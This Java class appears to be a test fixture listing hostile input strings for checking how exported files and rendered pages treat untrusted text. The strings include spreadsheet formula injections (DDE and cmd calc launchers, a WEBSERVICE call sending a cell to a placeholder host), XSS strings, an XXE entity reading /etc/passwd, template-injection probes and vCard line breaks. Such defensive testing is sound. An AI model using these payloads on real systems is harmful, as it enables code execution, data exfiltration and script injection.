package nl.buurtbrug.testing;

import java.util.List;
import java.util.stream.Stream;

/// Texts that are made to run, or to break out, where a file is opened: 120 of them, each of another kind or in another wrapping.
public final class Payloads {

    private static final List<String> FORMULAS = List.of("=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=HYPERLINK(\"http://x.example\";\"klik\")",
            "=cmd|' /C calc'!A0", "=WEBSERVICE(\"http://x.example/\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"x\")");

    /// What people and programs put before a formula, and what some spreadsheets take off again.
    private static final List<String> BEFORE = List.of("", " ", "\t", "\r", "\n", "\u00A0", "\uFEFF", "\u200B", "\u0000", "'", "\"");

    private static final List<String> OTHER_FORMULAS = List.of("\uFF1D1+1", "\uFF0B1+1", "\uFF0D1+1", "\uFF20SUM(1;1)", "|calc", "\uFF5Ccalc",
            "x;=1+1", "x,=1+1", "x\t=1+1", "x\r\n=1+1", "x\"\r\n=1+1", "x\";=1+1;\"");

    private static final List<String> MARKUP = List.of("<b>vet</b>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table>",
            "]]>", "<!--", "<![CDATA[x]]>", "&lt;b&gt;", "&#60;b&#62;", "&amp;&nbsp;&x;", "<?xml version=\"1.0\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "\" onclick=\"alert(1)", "' onclick='alert(1)", "javascript:alert(1)", "</style><style>*{display:none}", "</title>", "<a href='file:///etc/passwd'>x</a>",
            "<link rel=stylesheet href=http://x.example>", "<iframe src=http://x.example>", "${6*7919}", "#{6*7919}", "@{6*7919}", "!{6*7919}");

    private static final List<String> CARDS = List.of("x\r\nEND:VCARD", "x\nBEGIN:VCARD", "x\\nTEL:112", "a;b;c", "a,b,c", "a\\;b\\,c\\\\",
            "x\r\n TEL:112", "\\");

    private static final List<String> OTHER = List.of("\u202Eneb ki", "\u0000", "\uD800", "\uD83D\uDE00", "null", "NaN", "TRUE", "2026-02-30", "1E309",
            "00123", "'", "\"", "\"\"\"", ";", "  ", "\\u0041", "%s%n{0}", "../../x");

    /// All of them.
    public static final List<String> ALL = Stream.of(wrapped(), OTHER_FORMULAS.stream(), MARKUP.stream(), CARDS.stream(), OTHER.stream())
            .flatMap(texts -> texts).limit(120).toList();

    private Payloads() {
    }

    /// Each formula bare, and each wrapping around some of them.
    private static Stream<String> wrapped() {
        return BEFORE.stream().flatMap(before -> FORMULAS.stream().filter(formula -> before.isEmpty() || formula.length() > 9 || formula.equals("=1+1"))
                .map(formula -> before + formula));
    }
}
